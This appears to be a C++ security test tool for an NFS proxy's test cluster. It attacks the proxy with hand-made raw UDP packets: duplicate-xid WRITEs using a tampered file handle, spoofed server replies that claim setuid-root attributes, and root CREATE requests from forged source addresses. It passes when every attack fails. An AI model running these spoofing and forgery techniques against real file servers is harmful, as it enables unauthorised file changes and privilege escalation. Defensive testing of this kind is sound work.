// Attacks on what the proxy believes about files and about who asks, over UDP, from a client's network:
//
//   attack_attributes --server A --export PATH [--port N] [--mount-port N] --servers A:PORT,A:PORT,...
//                     [--interface eth0] [--sources A,A,...] [ATTACK...]
//
// ATTACK is one of these (without any, all of them):
//
//   same-xid       two WRITEs under one xid, the second on another user's file, with a MAC that nobody
//   minted,
//                  at a large offset: the first one's answer must move no other file's size or mtime
//   forged-reply   answers with a server's source address and a request's xid: nobody may see what they say
//   forged-source  CREATE and LOOKUP as root from an address that is not ours: nothing may be done
//
// --servers: the servers' endpoints (forged-reply); --sources: addresses that are not routed to this client
// (forged-source). Frames are made by hand: needs root, or CAP_NET_RAW. Prints a line an attack; exit code 0
// when every attack failed, 1 when one succeeded, 2 when it could not be carried out.
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdio>
#include <fstream>
#include <sstream>

#include "tests/cluster/client/session.h"

namespace slice::client {
namespace {

struct Endpoint {
  std::uint32_t address = 0;  // network order
  std::uint16_t port = 0;     // host order
};

std::uint32_t address_of(const std::string& text) {
  in_addr out{};
  if (inet_pton(AF_INET, text.c_str(), &out) != 1) throw RpcError("not an address: " + text);
  return out.s_addr;
}

std::vector<std::string> split(const std::string& text) {
  std::vector<std::string> words;
  std::stringstream in(text);
  for (std::string word; std::getline(in, word, ',');) {
    if (!word.empty()) words.push_back(word);
  }
  return words;
}

Endpoint endpoint_of(const std::string& text) {
  const std::size_t colon = text.find(':');
  if (colon == std::string::npos) throw RpcError("not ADDRESS:PORT: " + text);
  return {address_of(text.substr(0, colon)), static_cast<std::uint16_t>(std::stoul(text.substr(colon + 1)))};
}

// --- messages and packets ----------------------------------------------------------------------------------

void put(std::string& to, std::initializer_list<std::uint32_t> words) {
  for (std::uint32_t word : words) {
    const std::uint32_t wire = htonl(word);
    to.append(reinterpret_cast<const char*>(&wire), sizeof wire);
  }
}

// An RPC call of user and group `id`.
template <class Args, class Result>
std::string message(const Procedure<Args, Result>& procedure, Args arguments, std::uint32_t xid,
                    std::uint32_t id) {
  std::string out;
  put(out, {xid, 0, 2, procedure.program, procedure.version, procedure.number, 1, 20, 0, 0, id, id, 0, 0, 0});
  std::array<char, 4096> room{};
  ZDR codec;
  libnfs_zdrmem_create(&codec, room.data(), room.size(), ZDR_ENCODE);
  if (procedure.encode(&codec, &arguments) == 0) throw RpcError("arguments that cannot be encoded");
  out.append(room.data(), libnfs_zdr_getpos(&codec));
  libnfs_zdr_destroy(&codec);
  return out;
}

std::uint16_t ip_checksum(const std::string& header) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i < header.size(); i += 2) {
    sum += static_cast<std::uint8_t>(header[i]) << 8 | static_cast<std::uint8_t>(header[i + 1]);
  }
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// An IPv4 packet with a UDP datagram without a checksum.
std::string packet(Endpoint from, Endpoint to, const std::string& payload) {
  const auto udp = static_cast<std::uint32_t>(8 + payload.size());
  std::string ip;
  put(ip, {0x45000000U | (20 + udp), 0, 64U << 24 | 17U << 16, ntohl(from.address), ntohl(to.address)});
  const std::uint16_t check = htons(ip_checksum(ip));
  std::memcpy(ip.data() + 10, &check, sizeof check);
  put(ip, {static_cast<std::uint32_t>(from.port) << 16 | to.port, udp << 16});
  return ip + payload;
}

// A datagram socket of our own, connected to the volume.
class Datagrams {
 public:
  explicit Datagrams(const Settings& settings) : fd_(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0)) {
    volume_ = {address_of(settings.server), settings.port};
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(volume_.port);
    to.sin_addr.s_addr = volume_.address;
    timeval patience{0, 300'000};
    setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (bindresvport(fd_, nullptr) != 0) throw RpcError("no reserved port (root is needed)");
    if (connect(fd_, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0) throw RpcError("no way to it");
  }
  Datagrams(const Datagrams&) = delete;
  Datagrams& operator=(const Datagrams&) = delete;
  ~Datagrams() { close(fd_); }

  void send(const std::string& datagram) const { ::send(fd_, datagram.data(), datagram.size(), 0); }
  // Waits for an answer, or a while.
  bool hear() const {
    std::array<char, 4096> into{};
    return recv(fd_, into.data(), into.size(), 0) > 0;
  }
  Endpoint own() const {
    sockaddr_in at{};
    socklen_t size = sizeof at;
    getsockname(fd_, reinterpret_cast<sockaddr*>(&at), &size);
    return {at.sin_addr.s_addr, ntohs(at.sin_port)};
  }
  Endpoint volume() const { return volume_; }

 private:
  int fd_;
  Endpoint volume_;
};

// Packets of any source to the next host on the way to the volume.
class RawSender {
 public:
  explicit RawSender(const std::string& interface)
      : fd_(socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP))) {
    if (fd_ < 0) throw RpcError("no packet socket (root is needed)");
    to_.sll_family = AF_PACKET;
    to_.sll_protocol = htons(ETH_P_IP);
    to_.sll_ifindex = static_cast<int>(if_nametoindex(interface.c_str()));
    to_.sll_halen = 6;
    find_neighbour(interface);
  }
  RawSender(const RawSender&) = delete;
  RawSender& operator=(const RawSender&) = delete;
  ~RawSender() { close(fd_); }

  void send(const std::string& packet) const {
    if (sendto(fd_, packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to_), sizeof to_) < 0)
      throw RpcError("a packet cannot be sent");
  }

 private:
  // The one whom everything was sent to so far.
  void find_neighbour(const std::string& interface) {
    std::ifstream arp("/proc/self/net/arp");
    for (std::string line; std::getline(arp, line);) {
      std::stringstream in(line);
      std::string address, type, flags, hardware, mask, device;
      in >> address >> type >> flags >> hardware >> mask >> device;
      if (device != interface || flags == "0x0") continue;
      std::array<unsigned, 6> bytes{};
      if (std::sscanf(hardware.c_str(), "%x:%x:%x:%x:%x:%x", &bytes[0], &bytes[1], &bytes[2], &bytes[3],
                      &bytes[4], &bytes[5]) != 6) {
        continue;
      }
      for (std::size_t i = 0; i < 6; ++i) to_.sll_addr[i] = static_cast<unsigned char>(bytes[i]);
      return;
    }
    throw RpcError("nobody is known on " + interface);
  }

  int fd_;
  sockaddr_ll to_{};
};

// --- attacks -----------------------------------------------------------------------------------------------

class Attacks {
 public:
  Attacks(const Arguments& arguments, const Settings& settings)
      : arguments_(arguments), session_(settings, "attack-attributes") {}

  // True when it failed.
  bool run(const std::string& name) {
    std::string harm = name == "same-xid"        ? same_xid()
                       : name == "forged-reply"  ? forged_reply()
                       : name == "forged-source" ? forged_source()
                                                 : throw RpcError("no such attack: " + name);
    std::printf("%s attack %s%s\n", harm.empty() ? "ok" : "not ok", name.c_str(),
                harm.empty() ? "" : (": " + harm).c_str());
    return harm.empty();
  }
  void finish() { session_.remove_folder(); }

 private:
  static constexpr std::uint32_t kUser = 1000;
  static constexpr std::uint64_t kFar = 1ULL << 50, kUnit = 64 << 10;

  std::uint32_t next_xid() { return xid_ += 2; }

  std::string same_xid() {
    const Handle victim = session_.create("victim");
    session_.write(victim, 0, "twelve bytes", FILE_SYNC);
    session_.setattr(victim, with_mode(0600));
    const fattr3 before = session_.attributes(victim);
    std::string bytes = victim.bytes();
    bytes.back() ^= 1;  // of the MAC
    const Handle forged(bytes);
    const Handle own = session_.create("own");
    session_.setattr(own, with_mode(0666));
    Datagrams udp(session_.settings());
    // One of these offsets is on the server of our own write.
    for (std::uint64_t i = 0; i < 256; ++i) {
      const std::uint32_t xid = next_xid();
      udp.send(message(kGetattr, GETATTR3args{own.raw()}, xid + 1, kUser));  // so that the proxy knows it
      udp.hear();
      udp.send(message(kWrite, write_arguments(own, kUnit, "four", UNSTABLE), xid, kUser));
      udp.send(message(kWrite,
                       write_arguments(i % 2 == 0 ? victim : forged, kFar + i * kUnit, "four", UNSTABLE), xid,
                       kUser));
      udp.hear();
    }
    const fattr3 after = session_.attributes(victim);
    session_.write(own, 0, "still served", FILE_SYNC);
    if (after.size != before.size) return "the victim's size is " + std::to_string(after.size);
    if (after.mtime.seconds != before.mtime.seconds || after.mtime.nseconds != before.mtime.nseconds)
      return "the victim's mtime moved";
    return {};
  }

  // Attributes of a file that runs as root.
  std::string forged_attributes(const fattr3& real) {
    std::string out;
    put(out, {1, 04755, 1, 0, 0, 0, 1U << 30, 0, 1U << 30, real.rdev.specdata1, real.rdev.specdata2});
    put(out, {static_cast<std::uint32_t>(real.fsid >> 32), static_cast<std::uint32_t>(real.fsid),
              static_cast<std::uint32_t>(real.fileid >> 32), static_cast<std::uint32_t>(real.fileid)});
    for (int i = 0; i < 3; ++i) put(out, {real.ctime.seconds + 1000, 0});
    return out;
  }

  std::string forged_reply() {
    const Handle file = session_.create("shown");
    session_.write(file, 0, "content", FILE_SYNC);
    const fattr3 real = session_.attributes(file);
    Datagrams udp(session_.settings());
    const RawSender raw(arguments_.text("--interface", "eth0"));
    const std::vector<std::string> servers = split(arguments_.needed("--servers"));
    for (int i = 0; i < 20; ++i) {
      const std::uint32_t xid = next_xid();
      udp.send(message(kGetattr, GETATTR3args{file.raw()}, xid, kUser));
      std::string reply;
      put(reply, {xid, 1, 0, 0, 0, 0, 0});
      reply += forged_attributes(real);
      for (const std::string& server : servers) raw.send(packet(endpoint_of(server), udp.own(), reply));
      udp.hear();
      for (const std::string& server : servers) raw.send(packet(endpoint_of(server), udp.own(), reply));
      const auto seen = session_.nfs().call(kRead, read_arguments(file, 0, 100));
      const post_op_attr& shown = (*seen)->READ3res_u.resok.file_attributes;
      if (shown.attributes_follow != 0 && shown.post_op_attr_u.attributes.mode != real.mode)
        return "another client sees mode " + std::to_string(shown.post_op_attr_u.attributes.mode);
      const fattr3 now = session_.attributes(file);
      if (now.mode != real.mode || now.size != real.size) return "another client sees forged attributes";
    }
    return {};
  }

  std::string forged_source() {
    const Handle folder = session_.make_folder("open");
    session_.setattr(folder, with_mode(0777));
    Datagrams udp(session_.settings());
    udp.send(message(kGetattr, GETATTR3args{folder.raw()}, next_xid(), 0));
    udp.hear();
    const RawSender raw(arguments_.text("--interface", "eth0"));
    int number = 0;
    for (const std::string& source : split(arguments_.text("--sources", "10.77.201.9,127.0.0.1"))) {
      const Endpoint from{address_of(source), 700};
      for (int i = 0; i < 5; ++i) {
        const std::string name = "forged-" + std::to_string(number++);
        raw.send(packet(from, udp.volume(),
                        message(kCreate, create_arguments(folder, name, UNCHECKED), next_xid(), 0)));
      }
      // What is ours comes through, by the same way: the attack was carried out.
      const std::string control = "control-" + std::to_string(number);
      raw.send(packet(udp.own(), udp.volume(),
                      message(kCreate, create_arguments(folder, control, UNCHECKED), next_xid(), 0)));
      udp.hear();
      sleep(1);
      bool came = false;
      for (const std::string& name : session_.list(folder, 4096, false)) {
        if (name.starts_with("forged-")) return "a request from " + source + " was carried out";
        came |= name == control;
      }
      if (!came) throw RpcError("our own packet does not get through");
    }
    return {};
  }

  const Arguments& arguments_;
  Session session_;
  std::uint32_t xid_ = static_cast<std::uint32_t>(getpid()) << 12;
};

}  // namespace
}  // namespace slice::client

int main(int argc, char** argv) {
  using namespace slice::client;
  const Arguments arguments(argc, argv, {});
  try {
    Attacks attacks(arguments, settings_from(arguments));
    std::vector<std::string> names = arguments.words();
    if (names.empty()) names = {"same-xid", "forged-reply", "forged-source"};
    bool failed = true;
    for (const std::string& name : names) failed = attacks.run(name) && failed;
    attacks.finish();
    return failed ? 0 : 1;
  } catch (const std::exception& error) {
    std::printf("not ok attack: %s\n", error.what());
    return 2;
  }
}
